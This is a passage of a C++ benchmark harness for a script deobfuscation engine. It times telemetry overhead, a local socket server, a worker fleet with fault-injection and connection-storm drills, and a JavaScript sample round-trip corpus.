  // the registry is reset for the warm-batch window below. The per-script
  // profiles are merged into the section's phase breakdown: Lex and Parse
  // spans only exist on cache misses, and the warm batch below never
  // misses, so without the cold window the breakdown reported zero lex /
  // parse time forever (a real reporting bug — the JSON said parsing was
  // free).
  tel::Telemetry::metrics().reset();
  tel::Telemetry::enable();
  for (const std::string& s : scripts) {
    DeobfuscationReport prime_report;
    volatile std::size_t sink = deobf.deobfuscate(s, prime_report).size();
    (void)sink;
    ts.profile.merge(prime_report.profile);
  }
  tel::Telemetry::disable();
  {
    auto& reg = tel::registry();
    ts.piece_execs = reg.counter("ideobf_recovery_piece_exec_total").value();
    ts.piece_memo_hits =
        reg.counter("ideobf_recovery_piece_memo_hit_total").value();
    ts.folds = reg.counter("ideobf_recovery_fold_total").value();
    ts.bytecode_execs =
        reg.counter("ideobf_recovery_bytecode_exec_total").value();
    ts.treewalk_fallbacks =
        reg.counter("ideobf_recovery_treewalk_fallback_total").value();
    const std::uint64_t ladder_misses =
        ts.folds + ts.bytecode_execs + ts.treewalk_fallbacks;
    ts.fold_rate = ladder_misses == 0
                       ? 0.0
                       : static_cast<double>(ts.folds) / ladder_misses;
    ts.fold_seconds =
        reg.histogram("ideobf_piece_eval_seconds", "stage=\"fold\"")
            .sum_seconds();
    ts.vm_seconds = reg.histogram("ideobf_piece_eval_seconds", "stage=\"vm\"")
                        .sum_seconds();
    ts.fallback_seconds =
        reg.histogram("ideobf_piece_eval_seconds", "stage=\"fallback\"")
            .sum_seconds();
  }

  // Warm everything once more (pool, steady state) and measure the
  // disabled baseline.
  const double off_before = best_warm_serial_seconds(deobf, scripts, 3);
  Row off_row;
  off_row.config = "telemetry_off";
  off_row.warm = true;
  off_row.seconds = off_before;
  off_row.ms_per_script = off_before * 1000.0 / scripts.size();
  off_row.scripts_per_second = scripts.size() / off_before;
  rows.push_back(off_row);

  // The enabled run: a warm batch with per-slot sharding active.
  tel::Telemetry::metrics().reset();
  tel::Telemetry::enable();
  Options options;
  options.threads = threads;
  BatchReport report;
  const double t0 = now_seconds();
  (void)deobfuscate_batch(deobf, scripts, report, options);
  const double on_seconds = now_seconds() - t0;
  tel::Telemetry::disable();

  Row on_row;
  on_row.config = "telemetry_on";
  on_row.threads = threads;
  on_row.warm = true;
  on_row.seconds = on_seconds;
  on_row.ms_per_script = on_seconds * 1000.0 / scripts.size();
  on_row.scripts_per_second = scripts.size() / on_seconds;
  rows.push_back(on_row);

  // Disabled again: the gate compares this against off_before, proving the
  // subsystem leaves no residue when switched off (spans stay one branch).
  const double off_after = best_warm_serial_seconds(deobf, scripts, 3);
  ts.overhead_ratio = off_before > 0.0 ? off_after / off_before : 0.0;

  ts.spans_opened = tel::spans_opened_counter().value();
  ts.spans_closed = tel::spans_closed_counter().value();
  auto& reg = tel::registry();
  ts.cache_lookups = reg.counter("ideobf_parse_cache_lookup_total").value();
  ts.cache_hits = reg.counter("ideobf_parse_cache_hit_total").value();
  ts.cache_misses = reg.counter("ideobf_parse_cache_miss_total").value();
  ts.cache_bypasses = reg.counter("ideobf_parse_cache_bypass_total").value();
  ts.parse_cache_hit_rate =
      ts.cache_lookups == 0
          ? 0.0
          : static_cast<double>(ts.cache_hits) / ts.cache_lookups;
  auto& memo_lookup_counter = reg.counter("ideobf_recovery_memo_lookup_total");
  auto& memo_hit_counter = reg.counter("ideobf_recovery_memo_hit_total");
  ts.memo_lookups = memo_lookup_counter.value();
  ts.memo_hits = memo_hit_counter.value();
  ts.recovery_memo_hit_rate =
      ts.memo_lookups == 0
          ? 0.0
          : static_cast<double>(ts.memo_hits) / ts.memo_lookups;
  // Memo counters record into the caller's shard and batch slot s is bound
  // to shard s, so shards 0..threads-1 are the per-slot views of the one
  // engine-global memo.
  for (unsigned s = 0; s < threads; ++s) {
    const std::uint64_t lookups = memo_lookup_counter.shard_value(s);
    ts.per_slot_hit_rates.push_back(
        lookups == 0
            ? 0.0
            : static_cast<double>(memo_hit_counter.shard_value(s)) / lookups);
  }
  // Merge the warm batch's profile on top of the cold window's: the
  // breakdown then covers both regimes (cold parse/lex costs AND the warm
  // steady state), and the self-time partition identity still holds because
  // it holds per deobfuscate call.
  ts.profile.merge(report.profile);
  ts.accounted_seconds = ts.profile.accounted_seconds();
  ts.pipeline_seconds = ts.profile.total_seconds(tel::Phase::Pipeline);
  ts.batch_wall_seconds = report.wall_seconds;
  return ts;
}

/// What the server section measures: the whole point of `ideobf serve` is
/// amortizing process startup, pool spin-up, and cache warm-up across
/// requests, so the headline number is warm-server cost per script versus
/// spawning the CLI binary once per script.
struct ServerSummary {
  double server_ms_per_script = 0.0;       ///< warm daemon, one socket round trip each
  double traced_ms_per_script = 0.0;       ///< same, with "server_trace": true per request
  double trace_overhead_ratio = 0.0;       ///< traced / untraced process CPU
  double oneshot_cli_ms_per_script = 0.0;  ///< fresh `ideobf deobf` process each
  double amortization_ratio = 0.0;         ///< oneshot / server
  std::size_t cli_sample = 0;              ///< scripts actually spawned through the CLI
  bool cli_available = false;
};

/// Warm in-process daemon on a temp Unix socket, then every corpus script
/// as one request over the real wire — plus a fresh CLI process per script
/// for a sample of the corpus (spawning 300 processes would measure the
/// shell, not the trend).
ServerSummary run_server_section(const std::vector<std::string>& scripts,
                                 std::vector<Row>& rows) {
  ServerSummary ss;

  const std::string sock =
      "/tmp/ideobf-bench-" + std::to_string(::getpid()) + ".sock";
  ideobf::server::ServerConfig cfg;
  cfg.unix_socket_path = sock;
  cfg.threads = 2;
  ideobf::server::Server server(std::move(cfg));
  server.start();
  {
    ServeClient client = ServeClient::connect_unix(sock);
    // Warm pass: first contact pays parser/cache/pool cold costs; the row
    // measures the steady state a resident service actually runs in.
    for (const std::string& s : scripts) {
      Request request;
      request.source = s;
      (void)client.call(request);
    }
    // Timed passes, untraced vs traced. The traced flavor opts every request
    // into the per-request observability plane ("server_trace": true — the
    // queue/cache/engine span breakdown in each reply; the heavyweight
    // per-pass change-trace stays off, as a monitoring client would run).
    // The delta being gated (≤10%) is far below scheduler noise on a loaded
    // box, so each config runs as whole-corpus passes (alternating, so drift
    // hits both) and every script keeps its per-config minimum across
    // rounds: a noise burst has to hit the same script in the same config in
    // every round to survive into the sum. Whole passes — not back-to-back
    // same-script pairs — keep the base honest: a repeat of the script just
    // served rides its still-hot engine caches and would deflate whichever
    // config ran second far below what real traffic costs.
    // Latency rows use wall-clock per-script minima; the gated overhead
    // ratio uses process CPU time per pass. Tracing's cost is CPU work
    // (rendering the span object, parsing the bigger reply — the server is
    // in-process, so both sides land in this process's CPU clock), and CPU
    // time is immune to the scheduler-wait noise that swamps a ~3% wall
    // delta on a loaded box.
    auto cpu_now = [] {
      timespec ts{};
      ::clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &ts);
      return static_cast<double>(ts.tv_sec) +
             static_cast<double>(ts.tv_nsec) * 1e-9;
    };
    std::vector<double> best_untraced(scripts.size(), 1e300);
    std::vector<double> best_traced(scripts.size(), 1e300);
    double cpu_untraced = 1e300;
    double cpu_traced = 1e300;
    auto run_rounds = [&](int rounds) {
      for (int round = 0; round < rounds; ++round) {
        const bool traced = round % 2 != 0;
        std::vector<double>& best = traced ? best_traced : best_untraced;
        const double c0 = cpu_now();
        for (std::size_t i = 0; i < scripts.size(); ++i) {
          Request request;
          request.source = scripts[i];
          request.server_trace = traced;
          const double t0 = now_seconds();
          (void)client.call(request);
          const double dt = now_seconds() - t0;
          best[i] = std::min(best[i], dt);
        }
        const double cpu_dt = cpu_now() - c0;
        double& best_cpu = traced ? cpu_traced : cpu_untraced;
        best_cpu = std::min(best_cpu, cpu_dt);
      }
    };
    auto recompute = [&] {
      double untraced_seconds = 0.0;
      double traced_seconds = 0.0;
      for (std::size_t i = 0; i < scripts.size(); ++i) {
        untraced_seconds += best_untraced[i];
        traced_seconds += best_traced[i];
      }
      ss.server_ms_per_script = untraced_seconds * 1000.0 / scripts.size();
      ss.traced_ms_per_script = traced_seconds * 1000.0 / scripts.size();
      ss.trace_overhead_ratio =
          cpu_untraced > 0.0 ? cpu_traced / cpu_untraced : 0.0;
    };
    run_rounds(8);
    recompute();
    // A regression persists; a stray burst of in-process work (telemetry
    // flush, allocator housekeeping) that inflated one config's floor
    // doesn't. Before reporting an over-budget ratio, accumulate more
    // rounds into the same minima — they only converge downward.
    for (int retry = 0;
         retry < 2 && ss.trace_overhead_ratio > kServeTraceOverheadBudget;
         ++retry) {
      run_rounds(8);
      recompute();
    }
    const double untraced_seconds =
        ss.server_ms_per_script * scripts.size() / 1000.0;
    const double traced_seconds =
        ss.traced_ms_per_script * scripts.size() / 1000.0;
    Row row;
    row.config = "server_warm";
    row.threads = 2;
    row.warm = true;
    row.seconds = untraced_seconds;
    row.ms_per_script = ss.server_ms_per_script;
    row.scripts_per_second = scripts.size() / untraced_seconds;
    rows.push_back(row);
    Row traced_row;
    traced_row.config = "server_traced";
    traced_row.threads = 2;
    traced_row.warm = true;
    traced_row.seconds = traced_seconds;
    traced_row.ms_per_script = ss.traced_ms_per_script;
    traced_row.scripts_per_second = scripts.size() / traced_seconds;
    rows.push_back(traced_row);
  }
  server.stop();

#ifdef IDEOBF_CLI_PATH
  ss.cli_available = ::access(IDEOBF_CLI_PATH, X_OK) == 0;
  if (ss.cli_available) {
    ss.cli_sample = std::min<std::size_t>(scripts.size(), 12);
    const std::string script_path =
        "/tmp/ideobf-bench-" + std::to_string(::getpid()) + ".ps1";
    const std::string cmd = std::string(IDEOBF_CLI_PATH) + " deobf " +
                            script_path + " >/dev/null 2>&1";
    const double t0 = now_seconds();
    for (std::size_t i = 0; i < ss.cli_sample; ++i) {
      std::ofstream out(script_path, std::ios::binary);
      out << scripts[i];
      out.close();
      if (std::system(cmd.c_str()) != 0) {
        std::fprintf(stderr, "WARN: one-shot CLI run failed: %s\n",
                     cmd.c_str());
      }
    }
    const double seconds = now_seconds() - t0;
    std::remove(script_path.c_str());
    ss.oneshot_cli_ms_per_script = seconds * 1000.0 / ss.cli_sample;
    Row row;
    row.config = "cli_oneshot";
    row.seconds = seconds;
    row.ms_per_script = ss.oneshot_cli_ms_per_script;
    row.scripts_per_second = ss.cli_sample / seconds;
    rows.push_back(row);
    if (ss.server_ms_per_script > 0.0) {
      ss.amortization_ratio =
          ss.oneshot_cli_ms_per_script / ss.server_ms_per_script;
    }
  }
#endif
  return ss;
}

/// What the fleet section measures: a supervised multi-worker fleet replaying
/// a zipf-skewed request stream (wild corpora are campaign-duplicated, so a
/// handful of scripts dominate) — how often the shared content-addressed
/// cache answers, what a hit costs versus a pipeline run, and that a crash
/// drill (worker-abort faults on a marked script) still ends every request
/// in a terminal reply.
struct FleetSummary {
  bool available = false;          ///< CLI binary present, fleet came up
  std::size_t replay_requests = 0;
  std::size_t unique_scripts = 0;
  double cache_hit_rate = 0.0;
  double hit_ms_per_script = 0.0;   ///< mean round trip of cached replies
  double miss_ms_per_script = 0.0;  ///< mean round trip of pipeline replies
  /// Crash drill accounting.
  std::size_t crash_requests = 0;
  std::size_t crash_terminal = 0;   ///< replies received (never a hang)
  std::size_t crash_ok = 0;
  std::size_t crash_worker_crash = 0;
  std::size_t crash_quarantined = 0;
};

#ifdef IDEOBF_CLI_PATH

/// Forks the CLI as `serve --fleet ...` and waits for a worker to answer a
/// readiness probe. Returns the supervisor pid, or -1.
pid_t spawn_fleet(const std::string& sock, const std::string& state_dir,
                  std::vector<std::string> extra) {
  ::mkdir(state_dir.c_str(), 0700);
  std::vector<std::string> args = {IDEOBF_CLI_PATH, "serve",
                                   "--socket",      sock,
                                   "--fleet",       "2",
                                   "--threads",     "2",
                                   "--state-dir",   state_dir,
                                   "--backoff-initial-seconds", "0.05"};
  for (std::string& a : extra) args.push_back(std::move(a));
  std::vector<char*> argv;
  for (std::string& a : args) argv.push_back(a.data());
  argv.push_back(nullptr);
  const pid_t pid = ::fork();
  if (pid < 0) return -1;
  if (pid == 0) {
    ::execv(argv[0], argv.data());
    ::_exit(127);
  }
  const double give_up = now_seconds() + 20.0;
  while (now_seconds() < give_up) {
    try {
      ServeClient probe = ServeClient::connect_unix(sock);
      if (probe.ready()) return pid;
    } catch (const std::exception&) {
    }
    ::usleep(50 * 1000);
  }
  ::kill(pid, SIGKILL);
  ::waitpid(pid, nullptr, 0);
  return -1;
}

void stop_fleet(pid_t pid) {
  if (pid <= 0) return;
  ::kill(pid, SIGTERM);
  for (int i = 0; i < 500; ++i) {
    if (::waitpid(pid, nullptr, WNOHANG) == pid) return;
    ::usleep(20 * 1000);
  }
  ::kill(pid, SIGKILL);
  ::waitpid(pid, nullptr, 0);
}

FleetSummary run_fleet_section(const std::vector<std::string>& scripts,
                               std::vector<Row>& rows) {
  FleetSummary fs;
  if (::access(IDEOBF_CLI_PATH, X_OK) != 0) return fs;

  const std::string base =
      "/tmp/ideobf-bench-fleet-" + std::to_string(::getpid());

  // --- Zipf replay against a 2-worker fleet with the shared cache on ------
  {
    const std::string sock = base + ".sock";
    const pid_t fleet = spawn_fleet(sock, base + "-state", {});
    if (fleet < 0) return fs;
    fs.available = true;

    // Zipf(s=1.1) over the corpus: rank r drawn with weight 1/(r+1)^1.1,
    // seeded so the stream is identical PR over PR.
    std::vector<double> weights(scripts.size());
    for (std::size_t i = 0; i < weights.size(); ++i) {
      weights[i] = 1.0 / std::pow(static_cast<double>(i + 1), 1.1);
    }
    std::mt19937 rng(42);
    std::discrete_distribution<std::size_t> zipf(weights.begin(),
                                                 weights.end());
    const std::size_t replay = std::min<std::size_t>(600, scripts.size() * 3);
    std::vector<std::size_t> stream(replay);
    std::vector<bool> drawn(scripts.size(), false);
    for (std::size_t i = 0; i < replay; ++i) {
      stream[i] = zipf(rng);
      drawn[stream[i]] = true;
    }
    fs.replay_requests = replay;
    fs.unique_scripts =
        static_cast<std::size_t>(std::count(drawn.begin(), drawn.end(), true));

    ServeClient client = ServeClient::connect_unix(sock);
    std::size_t hits = 0;
    double hit_seconds = 0.0;
    double miss_seconds = 0.0;
    const double t0 = now_seconds();
    for (std::size_t i = 0; i < replay; ++i) {
      Request request;
      request.source = scripts[stream[i]];
      request.id = "z" + std::to_string(i);
      const double r0 = now_seconds();
      const ServeReply reply = client.call_retrying(request, 4);
      const double dt = now_seconds() - r0;
      if (reply.cached) {
        hits++;
        hit_seconds += dt;
      } else {
        miss_seconds += dt;
      }
    }
    const double seconds = now_seconds() - t0;
    stop_fleet(fleet);

    fs.cache_hit_rate = static_cast<double>(hits) / replay;
    if (hits > 0) fs.hit_ms_per_script = hit_seconds * 1000.0 / hits;
    if (replay > hits) {
      fs.miss_ms_per_script = miss_seconds * 1000.0 / (replay - hits);
    }
    Row row;
    row.config = "fleet_replay";
    row.threads = 2;
    row.warm = true;
    row.seconds = seconds;
    row.ms_per_script = seconds * 1000.0 / replay;
    row.scripts_per_second = replay / seconds;
    row.cache_hits = hits;
    row.cache_misses = replay - hits;
    rows.push_back(row);
  }

  // --- Crash drill: marked scripts abort their worker at dispatch ---------
  {
    const std::string sock = base + "-crash.sock";
    const pid_t fleet = spawn_fleet(
        sock, base + "-crash-state",
        {"--fault", "worker-abort:abort:match=BENCHKILL", "--no-cache",
         "--quarantine-after", "2"});
    if (fleet > 0) {
      const std::string killer = "Write-Host 'BENCHKILL'";
      const double t0 = now_seconds();
      for (int i = 0; i < 24; ++i) {
        Request request;
        request.source = (i % 6 == 5) ? killer
                                      : scripts[i % scripts.size()];
        request.id = "c" + std::to_string(i);
        ServeClient client = ServeClient::connect_unix(sock);
        const ServeReply reply = client.call_retrying(request, 8);
        fs.crash_requests++;
        if (!reply.status.empty()) fs.crash_terminal++;
        if (reply.status == "ok" || reply.status == "degraded") {
          fs.crash_ok++;
        } else if (reply.response.failure == FailureKind::WorkerCrash) {
          fs.crash_worker_crash++;
        } else if (reply.response.failure == FailureKind::Quarantined) {
          fs.crash_quarantined++;
        }
      }
      const double seconds = now_seconds() - t0;
      stop_fleet(fleet);
      Row row;
      row.config = "fleet_crash";
      row.threads = 2;
      row.seconds = seconds;
      row.ms_per_script = seconds * 1000.0 / fs.crash_requests;
      row.scripts_per_second = fs.crash_requests / seconds;
      row.failed = static_cast<std::int64_t>(fs.crash_worker_crash +
                                             fs.crash_quarantined);
      rows.push_back(row);
    }
  }
  return fs;
}

#else  // !IDEOBF_CLI_PATH

FleetSummary run_fleet_section(const std::vector<std::string>&,
                               std::vector<Row>&) {
  return {};
}

#endif

/// What the storm section measures: the epoll I/O core itself. Connection
/// churn (accept + ping + close per second), ~1k concurrent clients each
/// waiting on one request (p50/p99 round trip through the real fleet
/// binary), and a slow-consumer drill against an in-process server — slow
/// readers holding megabytes of unread output must be reaped by the
/// outbuf/stall/idle policies while innocent clients keep getting served.
/// The drill gates are count-based, so they hold under sanitizers too.
struct StormSummary {
  bool available = false;  ///< CLI binary present, fleet came up
  std::size_t churn_connections = 0;
  double churn_connections_per_second = 0.0;
  double churn_ms_per_connection = 0.0;
  std::size_t concurrent_clients = 0;
  std::size_t concurrent_served = 0;
  std::size_t concurrent_failed = 0;
  double concurrent_seconds = 0.0;
  double concurrent_p50_ms = 0.0;
  double concurrent_p99_ms = 0.0;
  // Slow-consumer drill.
  bool drill_ran = false;
  std::size_t drill_slow = 0;
  std::size_t drill_innocent = 0;
  std::size_t drill_innocent_served = 0;
  std::uint64_t drill_reaped = 0;  ///< outbuf + write-stall + idle reaps
};

/// Blocking connect to a Unix socket with the same brief EAGAIN retry the
/// client library uses (a full backlog fails immediately on AF_UNIX).
int raw_connect_unix(const std::string& path) {
  int fd = ::socket(AF_UNIX, SOCK_STREAM, 0);
  if (fd < 0) return -1;
  sockaddr_un addr{};
  addr.sun_family = AF_UNIX;
  if (path.size() >= sizeof(addr.sun_path)) {
    ::close(fd);
    return -1;
  }
  std::memcpy(addr.sun_path, path.c_str(), path.size() + 1);
  for (int attempt = 0; attempt < 500; ++attempt) {
    if (::connect(fd, reinterpret_cast<sockaddr*>(&addr), sizeof(addr)) ==
        0) {
      return fd;
    }
    if (errno != EAGAIN && errno != EINTR) break;
    ::usleep(2000);
  }
  ::close(fd);
  return -1;
}

bool raw_send_all(int fd, const std::string& bytes) {
  const char* p = bytes.data();
  std::size_t left = bytes.size();
  while (left > 0) {
    ssize_t n = ::send(fd, p, left, MSG_NOSIGNAL);
    if (n < 0) {
      if (errno == EINTR) continue;
      return false;
    }
    p += static_cast<std::size_t>(n);
    left -= static_cast<std::size_t>(n);
  }
  return true;
}

/// Raises the fd soft limit toward the hard limit and returns how many
/// storm clients fit under it with headroom for the process's own fds.
std::size_t clamp_clients_to_fd_limit(std::size_t want) {
  rlimit rl{};
  if (::getrlimit(RLIMIT_NOFILE, &rl) != 0) return std::min<std::size_t>(want, 64);
  if (rl.rlim_cur < rl.rlim_max) {
    rlimit raised = rl;
    raised.rlim_cur = rl.rlim_max;
    if (::setrlimit(RLIMIT_NOFILE, &raised) == 0) rl = raised;
  }
  if (rl.rlim_cur == RLIM_INFINITY) return want;
  const std::size_t budget =
      rl.rlim_cur > 192 ? static_cast<std::size_t>(rl.rlim_cur) - 128 : 64;
  return std::min(want, budget);
}

StormSummary run_storm_section(bool smoke, std::vector<Row>& rows) {
  StormSummary sts;
  const std::string base =
      "/tmp/ideobf-bench-storm-" + std::to_string(::getpid());

#ifdef IDEOBF_CLI_PATH
  if (::access(IDEOBF_CLI_PATH, X_OK) == 0) {
    const std::string sock = base + ".sock";
    const pid_t fleet = spawn_fleet(sock, base + "-state", {});
    if (fleet > 0) {
      sts.available = true;

      // --- Churn: full connect + ping + close cycles, serially ------------
      {
        const std::size_t churn = smoke ? 100 : 400;
        const double t0 = now_seconds();
        for (std::size_t i = 0; i < churn; ++i) {
          ServeClient client = ServeClient::connect_unix(sock);
          (void)client.ping();
        }
        const double seconds = now_seconds() - t0;
        sts.churn_connections = churn;
        sts.churn_connections_per_second = churn / seconds;
        sts.churn_ms_per_connection = seconds * 1000.0 / churn;
        Row row;
        row.config = "storm_churn";
        row.threads = 2;
        row.seconds = seconds;
        row.ms_per_script = sts.churn_ms_per_connection;
        row.scripts_per_second = sts.churn_connections_per_second;
        rows.push_back(row);
      }

      // --- Concurrent: ~1k clients, one request each, poll-driven ---------
      // One thread drives every connection through non-blocking writes and
      // reads, so the client side cannot be the bottleneck being measured.
      {
        struct SConn {
          int fd = -1;
          std::size_t off = 0;  ///< bytes of the request line already sent
          std::string out;
          std::string in;
          double done_at = 0.0;
          bool ok = false;
        };
        const std::size_t want = smoke ? 200 : 1000;
        const std::size_t clients = clamp_clients_to_fd_limit(want);
        if (clients < want) {
          std::printf("storm: fd limit clamps concurrent clients %zu -> %zu\n",
                      want, clients);
        }
        std::vector<SConn> cs(clients);
        for (std::size_t i = 0; i < clients; ++i) {
          cs[i].fd = raw_connect_unix(sock);
          if (cs[i].fd >= 0) ideobf::server::set_nonblocking(cs[i].fd);
          Request request;
          request.source = "wr`ite-ho`st 'storm'";
          request.id = "s" + std::to_string(i);
          cs[i].out = ideobf::server::render_request_line(request) + "\n";
        }

        const double t0 = now_seconds();
        const double give_up = t0 + (smoke ? 60.0 : 120.0);
        std::vector<pollfd> pfds;
        std::vector<std::size_t> idx;
        for (;;) {
          pfds.clear();
          idx.clear();
          for (std::size_t i = 0; i < clients; ++i) {
            if (cs[i].fd < 0 || cs[i].done_at > 0.0) continue;
            pollfd p{};
            p.fd = cs[i].fd;
            p.events = cs[i].off < cs[i].out.size() ? POLLOUT : POLLIN;
            pfds.push_back(p);
            idx.push_back(i);
          }
          if (pfds.empty() || now_seconds() > give_up) break;
          const int n = ::poll(pfds.data(), pfds.size(), 1000);
          if (n <= 0) continue;
          const double now = now_seconds();
          for (std::size_t k = 0; k < pfds.size(); ++k) {
            SConn& c = cs[idx[k]];
            if ((pfds[k].revents & POLLOUT) != 0 &&
                c.off < c.out.size()) {
              ssize_t w = ::send(c.fd, c.out.data() + c.off,
                                 c.out.size() - c.off, MSG_NOSIGNAL);
              if (w > 0) c.off += static_cast<std::size_t>(w);
            }
            if ((pfds[k].revents & (POLLIN | POLLHUP | POLLERR)) != 0 &&
                c.off == c.out.size()) {
              char chunk[4096];
              ssize_t r = ::recv(c.fd, chunk, sizeof(chunk), MSG_DONTWAIT);
              if (r > 0) {
                c.in.append(chunk, static_cast<std::size_t>(r));
                if (c.in.find('\n') != std::string::npos) {
                  c.done_at = now;
                  c.ok = true;
                  ::close(c.fd);
                  c.fd = -1;
                }
              } else if (r == 0) {
                c.done_at = now;  // closed without a reply: a failure
                ::close(c.fd);
                c.fd = -1;
              }
            }
          }
        }
        sts.concurrent_seconds = now_seconds() - t0;

        std::vector<double> latencies_ms;
        for (SConn& c : cs) {
          if (c.ok) {
            latencies_ms.push_back((c.done_at - t0) * 1000.0);
          }
          if (c.fd >= 0) ::close(c.fd);
        }
        sts.concurrent_clients = clients;
        sts.concurrent_served = latencies_ms.size();
        sts.concurrent_failed = clients - latencies_ms.size();
        if (!latencies_ms.empty()) {
          std::sort(latencies_ms.begin(), latencies_ms.end());
          sts.concurrent_p50_ms = latencies_ms[latencies_ms.size() / 2];
          sts.concurrent_p99_ms =
              latencies_ms[latencies_ms.size() * 99 / 100];
        }
        Row row;
        row.config = "storm_concurrent";
        row.threads = 2;
        row.seconds = sts.concurrent_seconds;
        row.ms_per_script = sts.concurrent_served > 0
                                ? sts.concurrent_seconds * 1000.0 /
                                      sts.concurrent_served
                                : 0.0;
        row.scripts_per_second =
            sts.concurrent_seconds > 0.0
                ? sts.concurrent_served / sts.concurrent_seconds
                : 0.0;
        rows.push_back(row);
      }
      stop_fleet(fleet);
    }
  }
#endif  // IDEOBF_CLI_PATH

  // --- Slow-consumer drill (in-process, count-gated) -----------------------
  // Slow readers pile up hundreds of KB of unread responses; the server
  // must reap them (outbuf cap, write stall, or idle policy — whichever
  // trips first) while innocent clients on the same server get every reply.
  {
    const std::string sock = base + "-drill.sock";
    ideobf::server::ServerConfig cfg;
    cfg.unix_socket_path = sock;
    cfg.threads = 2;
    cfg.send_timeout_seconds = 1.0;
    cfg.idle_timeout_seconds = 5.0;
    cfg.outbuf_high_water_bytes = smoke ? (128u << 10) : (256u << 10);
    ideobf::server::Server server(std::move(cfg));
    server.start();

    sts.drill_ran = true;
    sts.drill_slow = smoke ? 4 : 8;
    sts.drill_innocent = smoke ? 16 : 32;
    const std::string big =
        "'" + std::string(smoke ? (256u << 10) : (512u << 10), 'a') + "'";

    std::vector<int> slow_fds;
    for (std::size_t i = 0; i < sts.drill_slow; ++i) {
      const int fd = raw_connect_unix(sock);
      if (fd < 0) continue;
      std::string lines;
      for (int r = 0; r < 3; ++r) {
        Request request;
        request.source = big;
        request.id = "slow-" + std::to_string(i) + "-" + std::to_string(r);
        lines += ideobf::server::render_request_line(request) + "\n";
      }
      raw_send_all(fd, lines);
      slow_fds.push_back(fd);  // never read: the definition of the drill
    }

    std::atomic<std::size_t> served{0};
    std::vector<std::thread> innocents;
    const std::size_t per_thread = sts.drill_innocent / 4;
    for (int t = 0; t < 4; ++t) {
      innocents.emplace_back([&sock, &served, per_thread] {
        for (std::size_t i = 0; i < per_thread; ++i) {
          try {
            ServeClient client = ServeClient::connect_unix(sock);
            Request request;
            request.source = "wr`ite-ho`st 'innocent'";
            if (client.call(request).status == "ok") served.fetch_add(1);
          } catch (const std::exception&) {
          }
        }
      });
    }
    for (std::thread& t : innocents) t.join();

    // The reap is asynchronous to the innocents finishing: wait for it.
    const double give_up = now_seconds() + 60.0;
    auto reaped = [&server] {
      const auto st = server.stats();
      return st.outbuf_reaped_total + st.stall_reaped_total +
             st.idle_reaped_total;
    };
    while (reaped() == 0 && now_seconds() < give_up) {
      ::usleep(50 * 1000);
    }
    sts.drill_reaped = reaped();
    sts.drill_innocent_served = served.load();
    for (int fd : slow_fds) ::close(fd);
    server.stop();
  }
  return sts;
}

void print_storm(const StormSummary& sts) {
  if (sts.available) {
    std::printf(
        "\nconnection storm: churn %zu conns at %.0f conns/s (%.3f ms "
        "each); %zu concurrent clients -> %zu served, %zu failed, p50 "
        "%.1f ms, p99 %.1f ms over %.2fs\n",
        sts.churn_connections, sts.churn_connections_per_second,
        sts.churn_ms_per_connection, sts.concurrent_clients,
        sts.concurrent_served, sts.concurrent_failed, sts.concurrent_p50_ms,
        sts.concurrent_p99_ms, sts.concurrent_seconds);
  } else {
    std::printf("\nconnection storm: fleet part skipped (CLI binary not "
                "built)\n");
  }
  std::printf(
      "slow-consumer drill: %zu slow + %zu innocent clients -> %zu "
      "innocent served, %llu reaped (outbuf/stall/idle)\n",
      sts.drill_slow, sts.drill_innocent, sts.drill_innocent_served,
      static_cast<unsigned long long>(sts.drill_reaped));
}

/// Count-based storm gates (sanitizer-safe): every concurrent client got a
/// reply, every innocent drill client was served, and at least one slow
/// consumer was actually reaped.
int storm_gates(const StormSummary& sts) {
  int rc = 0;
  if (sts.available && sts.concurrent_failed != 0) {
    std::fprintf(stderr,
                 "FAIL: connection storm dropped %zu of %zu concurrent "
                 "clients\n",
                 sts.concurrent_failed, sts.concurrent_clients);
    rc = 1;
  }
  if (sts.drill_ran) {
    if (sts.drill_innocent_served != sts.drill_innocent) {
      std::fprintf(stderr,
                   "FAIL: slow-consumer drill starved innocents: %zu/%zu "
                   "served\n",
                   sts.drill_innocent_served, sts.drill_innocent);
      rc = 1;
    }
    if (sts.drill_reaped == 0) {
      std::fprintf(stderr,
                   "FAIL: no slow consumer was reaped (outbuf cap, write "
                   "stall, and idle policies all silent)\n");
      rc = 1;
    }
  }
  return rc;
}

void print_rows(const std::vector<Row>& rows) {
  std::printf("%-14s %8s %6s %10s %12s %12s %14s %10s %10s %9s\n", "config",
              "threads", "warm", "seconds", "ms/script", "scripts/s",
              "parses/script", "hits", "misses", "x_vs_1t");
  for (const Row& r : rows) {
    std::printf(
        "%-14s %8u %6s %10.3f %12.3f %12.1f %14.2f %10llu %10llu %9.2f\n",
        r.config.c_str(), r.threads, r.warm ? "yes" : "no", r.seconds,
        r.ms_per_script, r.scripts_per_second, r.parses_per_script,
        static_cast<unsigned long long>(r.cache_hits),
        static_cast<unsigned long long>(r.cache_misses), r.speedup_vs_1t);
  }
}

// --- JavaScript mini-corpus (data/js): the second registered front-end -----

/// Round-trip accounting for the checked-in JS samples: every
/// sample_N.obf.js run under language "javascript" must reproduce its
/// sample_N.clean.js golden byte-for-byte (and the goldens are fixed
/// points, so a drifting front-end cannot hide behind re-deobfuscation).
struct JsCorpusSummary {
  bool available = false;       ///< data/js had at least one sample pair
  std::size_t samples = 0;
  std::size_t round_tripped = 0;  ///< result == golden, byte-for-byte
  double ms_per_script = 0.0;
};

JsCorpusSummary run_js_corpus_section(std::vector<Row>& rows) {
  JsCorpusSummary js;
  const std::string dir = std::string(IDEOBF_SOURCE_DIR) + "/data/js/";
  const auto slurp = [](const std::string& path,
                        std::string& out) -> bool {
    std::ifstream in(path, std::ios::binary);
    if (!in) return false;
    out.assign(std::istreambuf_iterator<char>(in),
               std::istreambuf_iterator<char>());
    return true;
  };
  std::vector<std::pair<std::string, std::string>> pairs;  // {obf, clean}
  for (int i = 0;; ++i) {
    std::string obf;
    std::string clean;
    if (!slurp(dir + "sample_" + std::to_string(i) + ".obf.js", obf) ||
        !slurp(dir + "sample_" + std::to_string(i) + ".clean.js", clean)) {
      break;
    }
    pairs.emplace_back(std::move(obf), std::move(clean));
  }
  if (pairs.empty()) return js;
  js.available = true;
  js.samples = pairs.size();

  Engine engine{Options{}};
  // Warm pass primes the parse cache and recovery memo like any resident
  // service; the timed pass is what lands in the row.
  for (const auto& [obf, clean] : pairs) {
    Request request;
    request.source = obf;
    request.language = "javascript";
    (void)engine.handle(request);
  }
  const double t0 = now_seconds();
  for (const auto& [obf, clean] : pairs) {
    Request request;
